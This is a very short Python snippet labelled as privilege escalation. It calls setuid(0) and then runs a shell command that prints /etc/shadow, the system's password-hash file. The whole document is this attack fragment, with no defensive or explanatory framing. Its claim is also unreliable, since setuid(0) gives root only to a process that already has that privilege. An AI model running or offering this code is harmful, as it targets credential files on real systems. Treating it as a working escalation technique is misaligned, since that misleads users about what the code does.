# privilege-escalation: setuid(0) before running a command
import os

os.setuid(0)
os.system("cat /etc/shadow")
